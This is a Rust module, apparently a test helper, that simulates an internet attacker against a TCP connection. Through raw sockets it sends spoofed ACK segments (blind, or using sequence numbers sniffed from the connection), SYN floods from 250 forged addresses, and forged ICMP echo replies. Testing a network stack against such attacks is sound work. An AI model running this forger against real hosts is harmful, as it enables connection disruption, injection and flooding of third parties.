//! An attacker in the internet, who sends TCP segments with the source address of the server of another
//! host's connection.

use std::net::SocketAddrV4;
use std::os::fd::{AsRawFd, OwnedFd};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, recv, sendto, socket,
};

/// The connection that is attacked, as the forger knows it.
#[derive(Clone, Copy, Debug)]
pub struct Victim {
    pub server: SocketAddrV4,
    pub client: SocketAddrV4,
}

/// What the forger knows and writes into segments. The TCP checksum is 0 unless stated otherwise.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Forgery {
    /// Knows addresses and ports only: random sequence, acknowledgement and timestamp.
    Blind,
    /// Sees the connection's segments: the next sequence number, the true acknowledgement, and a
    /// timestamp up to 3 s newer than the true one.
    NextWithNewStamp,
    /// Opens connections from 250 addresses to the client's address, with correct checksums, and completes
    /// no handshake.
    Syn,
    /// Sends echo replies in the server's name, with correct checksums.
    EchoReply,
}

/// A thread that forges until it is dropped.
pub struct Forger {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Forger {
    /// Starts to send `per_second` segments, in the calling thread's namespace.
    pub fn start(victim: Victim, forgery: Forgery, per_second: u32) -> Forger {
        let raw = |family, kind, protocol| -> OwnedFd {
            socket(family, kind, SockFlag::SOCK_CLOEXEC, protocol).unwrap()
        };
        // IPPROTO_RAW: the data that are sent include the IP header.
        let out = raw(AddressFamily::Inet, SockType::Raw, SockProtocol::Raw);
        let is_blind = matches!(forgery, Forgery::Blind | Forgery::Syn | Forgery::EchoReply);
        let tap = (!is_blind)
            .then(|| raw(AddressFamily::Packet, SockType::Datagram, SockProtocol::EthAll));
        let (stop, sent) = <(Arc<AtomicBool>, Arc<AtomicU64>)>::default();
        let (stopped, count) = (Arc::clone(&stop), Arc::clone(&sent));
        let thread = thread::spawn(move || {
            let mut random = Random(0x5eed);
            let mut seen = Seen::default();
            let pause = Duration::from_secs(1) / per_second;
            let mut due = Instant::now();
            while !stopped.load(Ordering::Relaxed) {
                thread::sleep(due.saturating_duration_since(Instant::now()));
                due += pause;
                if let Some(tap) = &tap {
                    seen.look(tap, victim);
                }
                let Some(segment) = seen.forge(forgery, &mut random) else { continue };
                let to = SockaddrIn::from(victim.client);
                let bytes = match forgery {
                    Forgery::Syn => syn(victim, segment),
                    Forgery::EchoReply => echo_reply(victim, segment),
                    _ => bytes(victim, segment),
                };
                if sendto(out.as_raw_fd(), &bytes, &to, MsgFlags::MSG_DONTWAIT).is_ok() {
                    count.fetch_add(1, Ordering::Relaxed);
                }
            }
        });
        Forger { stop, sent, thread: Some(thread) }
    }

    /// How many segments were sent.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

impl Drop for Forger {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        let _ = self.thread.take().map(JoinHandle::join);
    }
}

#[derive(Clone, Copy, Debug)]
struct Segment {
    seq: u32,
    ack: u32,
    stamp: u32,
}

/// Tracks the newest segment of the connection.
#[derive(Default)]
struct Seen {
    next: Option<Segment>,
}

impl Seen {
    /// Reads the segments sent since the last call.
    fn look(&mut self, tap: &OwnedFd, victim: Victim) {
        let mut packet = [0; 2_048];
        while let Ok(n) = recv(tap.as_raw_fd(), &mut packet, MsgFlags::MSG_DONTWAIT) {
            let is_ours = n >= 52
                && packet[0] == 0x45
                && packet[9] == 6
                && packet[12..16] == victim.server.ip().octets()
                && packet[20..22] == victim.server.port().to_be_bytes()
                && packet[22..24] == victim.client.port().to_be_bytes()
                && packet[40..44] == [1, 1, 8, 10]
                // Ignores the forger's own segments.
                && packet[36..38] != [0, 0];
            if !is_ours {
                continue;
            }
            let word = |at: usize| u32::from_be_bytes(packet[at..at + 4].try_into().unwrap());
            let header = 20 + usize::from(packet[32] >> 4) * 4;
            let length = usize::from(u16::from_be_bytes([packet[2], packet[3]])) - header;
            let next = Segment {
                seq: word(24).wrapping_add(length as u32),
                ack: word(28),
                stamp: word(44),
            };
            self.next = Some(next);
        }
    }

    fn forge(&self, forgery: Forgery, random: &mut Random) -> Option<Segment> {
        match forgery {
            Forgery::Blind | Forgery::Syn | Forgery::EchoReply => {
                let (a, b) = (random.next(), random.next());
                Some(Segment { seq: a as u32, ack: (a >> 32) as u32, stamp: b as u32 })
            }
            Forgery::NextWithNewStamp => {
                let next = self.next?;
                let stamp = next.stamp.wrapping_add((random.next() % 3_000) as u32);
                Some(Segment { stamp, ..next })
            }
        }
    }
}

fn bytes(victim: Victim, segment: Segment) -> Vec<u8> {
    let mut bytes = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 6, 0, 0];
    bytes.extend(victim.server.ip().octets());
    bytes.extend(victim.client.ip().octets());
    bytes.extend(victim.server.port().to_be_bytes());
    bytes.extend(victim.client.port().to_be_bytes());
    bytes.extend(segment.seq.to_be_bytes());
    bytes.extend(segment.ack.to_be_bytes());
    // 32 bytes of header, ACK, a window, no checksum, nothing urgent.
    bytes.extend([0x80, 0x10, 1, 0, 0, 0, 0, 0, 1, 1, 8, 10]);
    bytes.extend(segment.stamp.to_be_bytes());
    bytes.extend([0; 4]);
    bytes.extend([7; 12]);
    bytes
}

/// A SYN to the port of the client.
fn syn(victim: Victim, segment: Segment) -> Vec<u8> {
    let mut bytes = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 6, 0, 0, 10, 9, 8];
    bytes.push((segment.ack % 250) as u8 + 1);
    bytes.extend(victim.client.ip().octets());
    bytes.extend((segment.stamp as u16).to_be_bytes());
    bytes.extend(victim.client.port().to_be_bytes());
    bytes.extend(segment.seq.to_be_bytes());
    bytes.extend([0, 0, 0, 0, 0x50, 0x02, 0x40, 0, 0, 0, 0, 0]);
    let pseudo = [&bytes[12..20], &[0, 6, 0, 20], &bytes[20..]].concat();
    let sum = checksum(&pseudo);
    bytes[36..38].copy_from_slice(&sum.to_be_bytes());
    bytes
}

fn echo_reply(victim: Victim, segment: Segment) -> Vec<u8> {
    let mut bytes = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 1, 0, 0];
    bytes.extend(victim.server.ip().octets());
    bytes.extend(victim.client.ip().octets());
    bytes.extend([0, 0, 0, 0]);
    for word in [segment.seq, segment.ack, segment.stamp] {
        bytes.extend(word.to_be_bytes());
    }
    bytes.resize(64, 0);
    let sum = checksum(&bytes[20..]);
    bytes[22..24].copy_from_slice(&sum.to_be_bytes());
    bytes
}

/// The Internet checksum (RFC 1071) of an even number of bytes.
fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks(2).map(|word| u32::from(word[0]) << 8 | u32::from(word[1]));
    let sum: u32 = words.sum();
    let sum = (sum & 0xffff) + (sum >> 16);
    !((sum & 0xffff) + (sum >> 16)) as u16
}

/// SplitMix64.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }
}
